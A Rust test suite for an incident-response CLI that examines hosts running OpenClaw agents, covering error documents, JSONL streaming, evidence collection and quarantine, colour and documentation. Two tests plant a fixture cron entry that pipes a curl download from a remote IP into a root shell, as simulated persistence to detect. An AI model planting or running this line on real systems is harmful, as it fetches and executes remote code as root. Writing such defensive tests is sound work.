//! One consistent CLI: bad input, `--json` everywhere, `--home`/`--root`,
//! help and man pages, colour, quiet.

use crate::util::{Host, json_out};
use predicates::prelude::*;

fn stderr(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn stdout(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// Asserts a failed `--json` run printed exactly the error document.
fn assert_error_doc(o: &std::process::Output) -> serde_json::Value {
    assert_eq!(o.status.code(), Some(2), "stderr: {}", stderr(o));
    let v = json_out(o);
    let keys: Vec<&str> = v.as_object().unwrap().keys().map(String::as_str).collect();
    assert_eq!(keys, ["error", "fix", "exit_code"], "{v}");
    assert_eq!(v["exit_code"], 2);
    assert!(!v["error"].as_str().unwrap().is_empty());
    v
}

#[test]
fn timeline_of_a_missing_path_exits_2_naming_it() {
    let h = Host::files();
    h.ir()
        .args(["timeline", "/no/such/path"])
        .assert()
        .code(2)
        .stdout("")
        .stderr(predicate::str::contains("/no/such/path"));
}

#[test]
fn timeline_lists_a_path_once_when_roots_overlap() {
    let h = Host::files();
    let o = h
        .ir()
        .args(["--json", "timeline", "--since", "36500d"])
        .args([
            "/home/alice/.openclaw",
            "/home/alice/.openclaw/agents",
            "/home/alice/.openclaw",
        ])
        .output()
        .unwrap();
    let v = json_out(&o);
    let paths: Vec<&str> = v["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["path"].as_str().unwrap())
        .collect();
    assert!(paths.iter().any(|p| p.contains("/agents/")), "{paths:?}");
    let mut uniq = paths.clone();
    uniq.sort();
    uniq.dedup();
    assert_eq!(uniq.len(), paths.len(), "a path listed twice: {paths:?}");
    assert_eq!(v["roots"].as_array().unwrap().len(), 1, "{}", v["roots"]);
}

#[test]
fn a_read_only_command_says_where_it_created_the_case_dir() {
    let h = Host::files();
    let cwd = tempfile::tempdir().unwrap();
    let run = || {
        h.ir_no_case()
            .current_dir(cwd.path())
            .arg("inventory")
            .output()
            .unwrap()
    };
    let first = run();
    let want = format!(
        "created the case dir {}",
        cwd.path().join("ir-case").display()
    );
    assert!(stderr(&first).contains(&want), "{}", stderr(&first));
    let again = run();
    assert!(!stderr(&again).contains("created the case dir"));
}

#[test]
fn quiet_prints_no_journal_head_line() {
    let h = Host::files();
    let o = h.ir().args(["-q", "inventory"]).output().unwrap();
    assert!(o.status.success());
    assert!(!stderr(&o).contains("journal: seq"), "{}", stderr(&o));
    assert!(!stderr(&o).contains("created the case dir"));
    let o = h.ir().arg("inventory").output().unwrap();
    assert!(stderr(&o).contains("journal: seq"));
}

#[test]
fn demo_honours_case() {
    let d = tempfile::tempdir().unwrap();
    let case = d.path().join("my-case");
    let o = assert_cmd::Command::new(env!("CARGO_BIN_EXE_ir"))
        .env_clear()
        .env("HOME", d.path())
        .env("PATH", "/usr/bin:/bin")
        .arg("--case")
        .arg(&case)
        .arg("demo")
        .arg("--dir")
        .arg(d.path().join("demo"))
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(case.join("journal.jsonl").is_file());
    assert!(!d.path().join("demo/case").exists());
}

#[test]
fn every_error_under_json_is_one_json_document() {
    let h = Host::files();
    let cases: &[&[&str]] = &[
        &["timeline", "/no/such/path"],
        &["timeline", "--format", "bodyfile"],
        &["verify", "/no/such/bundle.age"],
        &["extract", "/no/such/bundle.age", "-o", "/tmp/x"],
        &["no-such-command"],
        &["collect", "--level", "99"],
        &["--profile", "bad/name", "inventory"],
        &["man", "no-such-page"],
        &["completions", "bash"],
    ];
    for args in cases {
        let o = h.ir().arg("--json").args(*args).output().unwrap();
        let v = assert_error_doc(&o);
        eprintln!("{args:?}: {v}");
    }
    let o = h
        .ir()
        .args(["timeline", "--jsonl", "/no/such/path"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    let out = stdout(&o);
    assert_eq!(out.lines().count(), 1, "{out}");
    let v: serde_json::Value = serde_json::from_str(out.trim()).unwrap();
    assert_eq!(v["exit_code"], 2);
}

#[test]
fn snapshot_prints_json() {
    let h = Host::files();
    let o = h.ir().args(["--json", "snapshot"]).output().unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    let v = json_out(&o);
    assert_eq!(v["sha256"].as_str().unwrap().len(), 64);
    assert!(std::path::Path::new(v["path"].as_str().unwrap()).is_file());
}

#[test]
fn timeline_and_hunt_stream_json_lines() {
    let h = Host::files();
    for args in [
        &["timeline", "--jsonl", "--since", "36500d"][..],
        &["hunt", "--jsonl"][..],
    ] {
        let o = h.ir().args(args).output().unwrap();
        assert!(o.status.code().unwrap() <= 1, "{}", stderr(&o));
        let lines: Vec<serde_json::Value> = stdout(&o)
            .lines()
            .map(|l| serde_json::from_str(l).expect("one JSON object per line"))
            .collect();
        assert!(lines.len() > 1, "{args:?}");
        assert_eq!(lines.last().unwrap()["record"], "summary");
        let first = lines[0]["record"].as_str().unwrap();
        assert!(["entry", "hit", "tool_call"].contains(&first), "{first}");
    }
}

/// `timeline --jsonl` writes each path as the walk finds it, and `hunt
/// --jsonl` each hit and tool call as it reads them, before the end: a
/// pipeline downstream starts at once (issue 14).
#[test]
fn jsonl_streams_before_the_command_ends() {
    for (args, pause, first) in [
        (
            &["timeline", "--jsonl", "--since", "36500d"][..],
            "timeline:walked",
            &["entry"][..],
        ),
        (
            &["hunt", "--jsonl"][..],
            "hunt:read",
            &["hit", "tool_call"][..],
        ),
    ] {
        streams_before_the_end(args, pause, first);
    }
}

fn streams_before_the_end(args: &[&str], pause: &str, first_records: &[&str]) {
    use std::io::BufRead;
    let h = Host::files();
    let mut child = h
        .command()
        .args(args)
        .env("IR_TEST_PAUSE_AT", pause)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let err = crate::util::wait_for_stderr(&mut child, &format!("test pause at {pause}"));
    let mut out = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut first = String::new();
    out.read_line(&mut first).unwrap();
    let v: serde_json::Value = serde_json::from_str(&first).expect("a JSON line");
    let record = v["record"].as_str().unwrap_or_default();
    assert!(first_records.contains(&record), "{args:?}: {first}");
    let pid = rustix::process::Pid::from_raw(child.id() as i32).unwrap();
    rustix::process::kill_process(pid, rustix::process::Signal::INT).unwrap();
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(130), "{}", err.join().unwrap());
    // The stream ends with the failure, so a reader knows it is partial.
    let rest: Vec<String> = out.lines().map(|l| l.unwrap()).collect();
    let last: serde_json::Value = serde_json::from_str(rest.last().unwrap()).unwrap();
    assert_eq!(last["record"], "error", "{rest:?}");
    assert_eq!(last["exit_code"], 130);
}

/// `--home` as a host path found under `--root`, and as the analyst-side
/// path under the root, with the examiner's own HOME: both find the
/// workspace (`~/.openclaw/workspace` is alice's, not the examiner's).
#[test]
fn home_is_found_under_root_either_way() {
    let h = Host::files();
    let local = h.state();
    for home in [
        std::path::PathBuf::from("/home/alice/.openclaw"),
        local.clone(),
    ] {
        let o = h
            .ir()
            .env("HOME", "/root")
            .arg("--home")
            .arg(&home)
            .args(["--json", "persistence"])
            .output()
            .unwrap();
        let v = json_out(&o);
        let soul = v["items"]
            .as_array()
            .unwrap()
            .iter()
            .any(|i| i["path"].as_str().unwrap().ends_with("workspace/SOUL.md"));
        assert!(
            soul,
            "SOUL.md missing with --home {}: {}",
            home.display(),
            stderr(&o)
        );
        assert!(!stderr(&o).contains("is missing"), "{}", stderr(&o));
    }
}

#[test]
fn a_configured_path_missing_under_root_is_warned_about_by_every_command() {
    let h = Host::files();
    let cfg = h.state().join("openclaw.json");
    let text = std::fs::read_to_string(&cfg).unwrap();
    std::fs::write(
        &cfg,
        text.replace(
            "{ id: \"main\", workspace: \"~/.openclaw/workspace\" }",
            "{ id: \"main\", workspace: \"/srv/elsewhere/ws\" }",
        ),
    )
    .unwrap();
    for cmd in ["inventory", "persistence", "hunt", "timeline", "snapshot"] {
        let o = h.ir().arg(cmd).output().unwrap();
        let err = stderr(&o);
        assert!(
            err.contains(
                "warning: the workspace /srv/elsewhere/ws (agent main) is missing under --root"
            ),
            "{cmd}: {err}"
        );
    }
}

/// `ir collect -o -`: the bundle on stdout and nowhere on the host's disk;
/// the manifest copy, the sidecar and the journal entry in the case dir; it
/// verifies where it is received; and it does not unlock destructive steps
/// on the host until a copy with its hash is put at its recorded name.
#[test]
fn collect_streams_the_bundle_to_stdout() {
    let h = Host::files();
    let cron = h.path("/etc/cron.d/sync");
    std::fs::create_dir_all(cron.parent().unwrap()).unwrap();
    std::fs::write(&cron, "* * * * * root curl -s http://91.92.242.30/s | sh\n").unwrap();
    let (key, recipient) = crate::collect::keypair(h.dir.path());
    let o = h
        .ir()
        .args(["collect", "-r", &recipient, "-o", "-"])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(o.stdout.starts_with(b"age-encryption.org/v1\n"));
    let err = stderr(&o);
    let sha = err
        .lines()
        .find_map(|l| l.strip_prefix("ir: bundle streamed to stdout, sha256 "))
        .expect("the hash on stderr")
        .to_string();
    let mut hasher = <sha2::Sha256 as sha2::Digest>::new();
    sha2::Digest::update(&mut hasher, &o.stdout);
    assert_eq!(hex::encode(sha2::Digest::finalize(hasher)), sha);
    let names: Vec<String> = std::fs::read_dir(&h.case)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        !names
            .iter()
            .any(|n| n.ends_with(".tar.gz.age") || n.contains("partial")),
        "{names:?}"
    );
    assert!(
        names.iter().any(|n| n.ends_with(".manifest.json")),
        "{names:?}"
    );
    let sidecar = names
        .iter()
        .find(|n| n.ends_with(".tar.gz.age.sha256"))
        .expect("sidecar");
    let line = std::fs::read_to_string(h.case.join(sidecar)).unwrap();
    assert!(line.starts_with(&sha), "{line}");
    let end = h
        .entries()
        .into_iter()
        .rev()
        .find(|e| e["kind"] == "end" && e["command"] == "collect")
        .expect("the collect end entry");
    assert_eq!(end["details"]["streamed"], true, "{end}");
    assert!(end.to_string().contains(&sha), "{end}");
    // Received: it verifies with the key, next to the case's journal.
    let bundle = h.case.join(sidecar.trim_end_matches(".sha256"));
    let received = h.dir.path().join("received.age");
    std::fs::write(&received, &o.stdout).unwrap();
    let v = h
        .ir()
        .arg("verify")
        .arg(&received)
        .arg("-i")
        .arg(&key)
        .output()
        .unwrap();
    assert_eq!(v.status.code(), Some(0), "{}{}", stdout(&v), stderr(&v));
    // The gate: refused while no copy is on the host, named why.
    let q = || {
        h.ir()
            .args(["quarantine", "/etc/cron.d/sync"])
            .output()
            .unwrap()
    };
    let c = q();
    assert_eq!(c.status.code(), Some(2));
    assert!(
        stderr(&c).contains("streamed its bundle to stdout"),
        "{}",
        stderr(&c)
    );
    assert!(cron.exists());
    // Put at its recorded name, it counts.
    std::fs::write(&bundle, &o.stdout).unwrap();
    let c = q();
    assert_eq!(c.status.code(), Some(0), "{}", stderr(&c));
    assert!(!cron.exists());
}

#[test]
fn collect_to_stdout_refuses_what_cannot_be() {
    let h = Host::files();
    let (_, recipient) = crate::collect::keypair(h.dir.path());
    let o = h
        .ir()
        .args(["--json", "collect", "-r", &recipient, "-o", "-"])
        .output()
        .unwrap();
    assert_error_doc(&o);
    let o = h
        .ir()
        .args(["collect", "-r", &recipient, "-o", "/tmp/x.age"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("only - (stdout)"), "{}", stderr(&o));
    // No key, no bundle: there is no plaintext mode, streamed or not.
    let o = h.ir().args(["collect", "-o", "-"]).output().unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(o.stdout.is_empty());
}

/// Runs `ir ARGS` on `h` under a pseudo-terminal (`script`), returning what
/// the terminal showed, or `None` when `script` is missing.
fn on_a_terminal(h: &Host, args: &str) -> Option<String> {
    let script = std::path::Path::new("/usr/bin/script");
    if !script.exists() {
        eprintln!("SKIPPED: no /usr/bin/script for a pseudo-terminal");
        return None;
    }
    let cmd = format!(
        "{} --root {} --case {} {args}",
        env!("CARGO_BIN_EXE_ir"),
        h.root.display(),
        h.case.display()
    );
    let o = std::process::Command::new(script)
        .args(["-qec", &cmd, "/dev/null"])
        .env_clear()
        .env("HOME", &h.home)
        .env("PATH", "/usr/bin:/bin")
        .env("TERM", "xterm")
        .output()
        .unwrap();
    Some(stdout(&o))
}

#[test]
fn progress_bars_and_colour_only_on_a_terminal() {
    let h = Host::files();
    let cron = h.path("/etc/cron.d/sync");
    std::fs::create_dir_all(cron.parent().unwrap()).unwrap();
    std::fs::write(&cron, "* * * * * root curl -s http://91.92.242.30/s | sh\n").unwrap();
    let (key, recipient) = crate::collect::keypair(h.dir.path());
    let Some(tty) = on_a_terminal(&h, &format!("collect -r {recipient}")) else {
        return;
    };
    assert!(tty.contains("collecting "), "{tty}");
    assert!(tty.contains("% "), "{tty}");
    assert!(tty.contains(" files  "), "{tty}");
    assert!(tty.contains("KiB"), "human sizes: {tty}");
    let bundle = std::fs::read_dir(&h.case)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.to_string_lossy().ends_with(".tar.gz.age"))
        .unwrap();
    let v = on_a_terminal(
        &h,
        &format!("verify {} -i {}", bundle.display(), key.display()),
    )
    .unwrap();
    assert!(v.contains("  checking "), "{v}");
    // -q and --json: no bar, even on a terminal; without one: never.
    let q = on_a_terminal(
        &h,
        &format!("-q verify {} -i {}", bundle.display(), key.display()),
    )
    .unwrap();
    assert!(!q.contains("  checking "), "{q}");
    let o = h
        .ir()
        .arg("verify")
        .arg(&bundle)
        .arg("-i")
        .arg(&key)
        .output()
        .unwrap();
    assert!(!stderr(&o).contains('['), "{}", stderr(&o));
    // Severities: coloured on a terminal, not in a pipe, not with NO_COLOR.
    let p = on_a_terminal(&h, "persistence").unwrap();
    assert!(p.contains("\u{1b}[1;31mcritical\u{1b}[0m"), "{p}");
    let piped = h.ir().arg("persistence").output().unwrap();
    assert!(!stdout(&piped).contains('\u{1b}'));
    let forced = h
        .ir()
        .args(["--color", "always", "persistence"])
        .output()
        .unwrap();
    assert!(stdout(&forced).contains("\u{1b}[1;31m"));
    let p = on_a_terminal(&h, "--color never persistence").unwrap();
    assert!(!p.contains("\u{1b}[1;31m"), "{p}");
    // Audit severities too, in the findings and in the counts (issue 14).
    let a = on_a_terminal(&h, "audit").unwrap();
    assert!(
        a.contains("[\u{1b}[1;31mcritical\u{1b}[0m]") || a.contains("[\u{1b}[33mwarn\u{1b}[0m]"),
        "{a}"
    );
    let piped = h.ir().arg("audit").output().unwrap();
    assert!(!stdout(&piped).contains('\u{1b}'));
}

#[test]
fn help_has_global_options_and_examples() {
    let h = Host::files();
    for sub in ["collect", "timeline", "journal verify", "inventory"] {
        let o = h.ir().args(sub.split(' ')).arg("--help").output().unwrap();
        let out = stdout(&o);
        assert!(out.contains("\nGlobal options:\n"), "{sub}: {out}");
        assert!(out.contains("\nExamples:\n  ir "), "{sub}: {out}");
        let own = out.split("\nGlobal options:\n").next().unwrap();
        assert!(
            !own.contains("--examiner"),
            "{sub}: global option outside its heading"
        );
    }
}

/// Every page `ir.1` (and every other page) names exists, and each has
/// EXIT STATUS and EXAMPLES.
#[test]
fn man_pages_exist_for_every_subcommand() {
    let h = Host::files();
    let dir = h.dir.path().join("man");
    h.ir().arg("man").arg("--dir").arg(&dir).assert().success();
    let pages: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(pages.len() > 20, "{pages:?}");
    let re = regex::Regex::new(r"(ir(?:\\-[a-z]+)+)\(1\)").unwrap();
    let mut named = 0;
    for p in &pages {
        let text = std::fs::read_to_string(dir.join(p)).unwrap();
        assert!(text.contains(".SH \"EXIT STATUS\""), "{p}");
        assert!(text.contains(".SH EXAMPLES"), "{p}");
        for c in re.captures_iter(&text) {
            let file = format!("{}.1", c[1].replace("\\-", "-"));
            assert!(
                pages.contains(&file),
                "{p} names {file}, which does not exist"
            );
            named += 1;
        }
    }
    assert!(named >= 20, "{named}");
    let collect = h.ir().args(["man", "collect"]).output().unwrap();
    let page = stdout(&collect);
    assert!(
        page.contains(".TH ") && page.contains("ir\\-collect"),
        "{page}"
    );
}

/// Every subcommand's `--help` headings under `Commands:`, nested ones as
/// `journal verify`.
fn subcommands(h: &Host, parent: &[String]) -> Vec<Vec<String>> {
    let o = h.ir_no_case().args(parent).arg("--help").output().unwrap();
    let help = stdout(&o);
    let Some(list) = help.split("\nCommands:\n").nth(1) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for line in list.lines().take_while(|l| !l.trim().is_empty()) {
        let name = line.split_whitespace().next().unwrap_or("help");
        if name == "help" || !line.starts_with("  ") || line.starts_with("   ") {
            continue;
        }
        let mut path = parent.to_vec();
        path.push(name.to_string());
        out.extend(subcommands(h, &path));
        out.push(path);
    }
    out
}

/// The README documents every option of every subcommand by its long
/// name (issue 14): a new flag without a line in the README fails here.
#[test]
fn readme_documents_every_option() {
    let h = Host::files();
    let readme =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/README.md")).unwrap();
    let flag = regex::Regex::new(r"^\s+(?:-[A-Za-z], )?(--[a-z][a-z0-9-]*)").unwrap();
    let mut missing = Vec::new();
    let mut checked = std::collections::BTreeSet::new();
    let mut subs = subcommands(&h, &[]);
    subs.push(Vec::new());
    assert!(subs.len() > 20, "{subs:?}");
    for sub in &subs {
        let o = h.ir_no_case().args(sub).arg("--help").output().unwrap();
        for line in stdout(&o).lines() {
            let Some(c) = flag.captures(line) else {
                continue;
            };
            let name = &c[1];
            if ["--help", "--version"].contains(&name) {
                continue;
            }
            checked.insert(name.to_string());
            let documented = regex::Regex::new(&format!(r"{}\b", regex::escape(name))).unwrap();
            if !documented.is_match(&readme) {
                missing.push(format!("ir {} {name}", sub.join(" ")));
            }
        }
    }
    assert!(checked.len() > 60, "{checked:?}");
    assert!(
        missing.is_empty(),
        "options the README never names: {missing:#?}"
    );
}
